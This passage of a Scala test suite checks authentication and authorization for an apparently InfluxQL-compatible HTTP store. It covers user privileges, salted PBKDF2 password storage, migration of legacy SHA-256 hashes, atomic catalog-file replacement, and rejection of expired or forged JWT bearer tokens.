      assert(rootQuery("GRANT WRITE ON db1 TO writer")._1 == 200)

      // SHOW USERS / SHOW GRANTS render the catalog (admin-only surface)
      val (_, users) = get(h.port, s"/query?u=root&p=root&q=${enc("SHOW USERS")}")
      assert(users.contains("reader") && users.contains("writer"), users.take(300))
      val (_, grants) = get(h.port, s"/query?u=root&p=root&q=${enc("SHOW GRANTS FOR reader")}")
      val gRows = mapper.readTree(grants).at("/results/0/series/0/values")
      assert(gRows.get(0).get(0).asText() == "db1" && gRows.get(0).get(1).asText() == "READ",
        grants.take(300))

      // catalog users authenticate with their own credentials…
      assert(get(h.port, s"/query?u=reader&p=rpw&db=db1&q=${enc("SHOW MEASUREMENTS")}")._1 == 200)
      assert(get(h.port, s"/query?u=reader&p=wrong&db=db1&q=${enc("SHOW MEASUREMENTS")}")._1 == 401)
      // …but privileges gate what they reach: no db param, wrong db, or
      // missing privilege → 403; user admin is admin-only
      assert(get(h.port, s"/query?u=reader&p=rpw&q=${enc("SHOW MEASUREMENTS")}")._1 == 403)
      assert(get(h.port, s"/query?u=writer&p=wpw&db=db1&q=${enc("SHOW MEASUREMENTS")}")._1 == 403)
      assert(get(h.port, s"/query?u=reader&p=rpw&db=db1&q=${enc("SHOW USERS")}")._1 == 403)

      // /write: writer passes on db1, reader is refused
      def write(u: String, p: String): Int = {
        val wc = new URI(s"http://127.0.0.1:${h.port}/write?db=db1&u=$u&p=$p").toURL
          .openConnection().asInstanceOf[HttpURLConnection]
        wc.setRequestMethod("POST"); wc.setDoOutput(true)
        wc.getOutputStream.write("db1,alias=a value=1.0 1704067200000000000".getBytes("UTF-8"))
        val c = wc.getResponseCode; wc.disconnect(); c
      }
      assert(write("writer", "wpw") == 204)
      assert(write("reader", "rpw") == 403)

      // lifecycle: password change, revoke, drop
      assert(rootQuery("SET PASSWORD FOR reader = 'npw'")._1 == 200)
      assert(get(h.port, s"/query?u=reader&p=rpw&db=db1&q=${enc("SHOW MEASUREMENTS")}")._1 == 401)
      assert(get(h.port, s"/query?u=reader&p=npw&db=db1&q=${enc("SHOW MEASUREMENTS")}")._1 == 200)
      assert(rootQuery("REVOKE READ ON db1 FROM reader")._1 == 200)
      assert(get(h.port, s"/query?u=reader&p=npw&db=db1&q=${enc("SHOW MEASUREMENTS")}")._1 == 403)
      assert(rootQuery("DROP USER reader")._1 == 200)
      assert(get(h.port, s"/query?u=reader&p=npw&db=db1&q=${enc("SHOW MEASUREMENTS")}")._1 == 401)
      // per-statement error for a duplicate create (batch shape intact)
      val (cd, bd) = rootQuery("CREATE USER writer WITH PASSWORD 'x'")
      assert(cd == 200 && bd.contains("already exists"), bd.take(300))

      // at rest: salted PBKDF2, never plaintext, never bare sha256
      val userFiles = new java.io.File(store, "_meta/users").listFiles()
      assert(userFiles.nonEmpty)
      userFiles.foreach { f =>
        val content = new String(java.nio.file.Files.readAllBytes(f.toPath), "UTF-8")
        assert(content.startsWith("pbkdf2:"), s"${f.getName}: ${content.take(40)}")
        assert(!content.contains("wpw") && !content.contains("npw"), "plaintext at rest")
      }
    } finally h.stop()
  }

  test("catalog files are replaced whole: a leftover temporary file is not listed and the live file keeps its content") {
    val store = java.nio.file.Files.createTempDirectory("graft-meta-tmp").toString
    StoreMeta.createDatabase(store, CreateDatabase("db1"))
    StoreMeta.createUser(store, CreateUser("u1", "pw", admin = false))
    StoreMeta.createRp(store, CreateRetention("keep2w", "db1", 14 * 86400L, 1, isDefault = true))
    // what a crash between the temporary write and its rename leaves
    val meta = new java.io.File(store, "_meta")
    val userFile = new java.io.File(meta, "users/u1")
    val userContent = java.nio.file.Files.readString(userFile.toPath)
    // (a full one: a listing that read it would show one entry more)
    for ((leftover, content) <- Seq("users/.u1.0f1e.tmp" -> userContent,
        "rp/db1/.keep2w.0f1e.tmp" -> "86400 1 false"))
      java.nio.file.Files.writeString(new java.io.File(meta, leftover).toPath, content)
    StoreMeta.alterRp(store, AlterRetention("keep2w", "db1", Some(28 * 86400L), None, isDefault = true))
    assert(java.nio.file.Files.readString(userFile.toPath) == userContent)
    def show(q: String) = mapper.readTree(InfluxQLResult.render(spark, store, q))
      .at("/results/0/series/0/values")
    val users = show("SHOW USERS")
    assert(users.size() == 1 && users.get(0).get(0).asText() == "u1", users.toString)
    assert(StoreMeta.authenticate(store, "u1", "pw"))
    val rps = show("SHOW RETENTION POLICIES ON db1")
    assert((0 until rps.size()).map(rps.get(_).get(0).asText()) == Seq("keep2w"), rps.toString)
    assert(StoreMeta.listRps(store, Some("db1")).map(r => (r.name, r.durationSec, r.isDefault)) ==
      Seq(("keep2w", 28 * 86400L, true)))
    // a name with a leading dot is escaped, so it is no temporary file
    StoreMeta.createUser(store, CreateUser(".dot", "pw2", admin = false))
    assert(StoreMeta.listUsers(store).map(_.name) == Seq(".dot", "u1"))
  }

  test("legacy unsalted-sha256 user files still authenticate and migrate to salted PBKDF2") {
    val store = java.nio.file.Files.createTempDirectory("graft-legacy-hash").toString
    // a pre-r9 user file: "<sha256-hex(password)> <admin>"
    val legacyHash = java.security.MessageDigest.getInstance("SHA-256")
      .digest("oldpw".getBytes("UTF-8")).map("%02x".format(_)).mkString
    val f = new java.io.File(store, "_meta/users/olduser")
    f.getParentFile.mkdirs()
    java.nio.file.Files.writeString(f.toPath, s"$legacyHash false")
    assert(!StoreMeta.authenticate(store, "olduser", "wrongpw"))
    assert(StoreMeta.authenticate(store, "olduser", "oldpw"))
    // first successful login rewrote the file salted; the credential
    // still verifies against the migrated hash
    val migrated = new String(java.nio.file.Files.readAllBytes(f.toPath), "UTF-8")
    assert(migrated.startsWith("pbkdf2:") && migrated.endsWith(" false"), migrated.take(60))
    assert(StoreMeta.authenticate(store, "olduser", "oldpw"))
    assert(!StoreMeta.authenticate(store, "olduser", "wrongpw"))
  }

  test("JWT shared-secret auth: valid bearer tokens authenticate, expired/forged 401") {
    val store = java.nio.file.Files.createTempDirectory("graft-http-jwt").toFile
    val secret = "sharedsecret123"
    val h = InfluxQLHttp.startStore(spark, store.toString,
      auth = Some("root" -> "root"), jwtSecret = Some(secret))
    try {
      def queryWithToken(token: String, q: String, db: String = ""): Int = {
        val dbq = if (db.isEmpty) "" else s"&db=$db"
        val conn = new java.net.URI(s"http://127.0.0.1:${h.port}/query?q=${enc(q)}$dbq").toURL
          .openConnection().asInstanceOf[java.net.HttpURLConnection]
        conn.setRequestProperty("Authorization", s"Bearer $token")
        val c = conn.getResponseCode; conn.disconnect(); c
      }
      val exp = System.currentTimeMillis() / 1000L + 3600
      // token naming the root identity → full admin
      assert(queryWithToken(Jwt.sign("root", exp, secret), "SHOW DATABASES") == 200)
      // expired / wrong-secret / unknown-user tokens all 401
      assert(queryWithToken(Jwt.sign("root",
        System.currentTimeMillis() / 1000L - 10, secret), "SHOW DATABASES") == 401)
      assert(queryWithToken(Jwt.sign("root", exp, "wrongsecret"), "SHOW DATABASES") == 401)
      assert(queryWithToken(Jwt.sign("ghost", exp, secret), "SHOW DATABASES") == 401)
      // a catalog user's token carries THAT user's privileges (not admin)
      val rc = new java.net.URI(s"http://127.0.0.1:${h.port}/query?u=root&p=root").toURL
        .openConnection().asInstanceOf[java.net.HttpURLConnection]
      rc.setRequestMethod("POST"); rc.setDoOutput(true)
      rc.getOutputStream.write(
        s"q=${enc("CREATE DATABASE db1; CREATE USER jr WITH PASSWORD 'x'; GRANT READ ON db1 TO jr")}"
          .getBytes("UTF-8"))
      assert(rc.getResponseCode == 200); rc.disconnect()
      val jrTok = Jwt.sign("jr", exp, secret)
      assert(queryWithToken(jrTok, "SHOW MEASUREMENTS", db = "db1") == 200)
      assert(queryWithToken(jrTok, "SHOW USERS", db = "db1") == 403) // not admin
      // verify() unit behavior: exp claim is REQUIRED
      val noExp = {
        val b64 = (s: String) => java.util.Base64.getUrlEncoder.withoutPadding
          .encodeToString(s.getBytes("UTF-8"))
        val si = s"${b64("""{"alg":"HS256","typ":"JWT"}""")}.${b64("""{"username":"root"}""")}"
        val mac = javax.crypto.Mac.getInstance("HmacSHA256")
        mac.init(new javax.crypto.spec.SecretKeySpec(secret.getBytes("UTF-8"), "HmacSHA256"))
        s"$si.${java.util.Base64.getUrlEncoder.withoutPadding.encodeToString(mac.doFinal(si.getBytes("UTF-8")))}"
      }
      assert(queryWithToken(noExp, "SHOW DATABASES") == 401)
      assert(Jwt.verify(Jwt.sign("u", 2000L, "s"), "s", nowEpochSec = 1000L).contains("u"))
      assert(Jwt.verify(Jwt.sign("u", 2000L, "s"), "s", nowEpochSec = 3000L).isEmpty)
    } finally h.stop()
  }
}
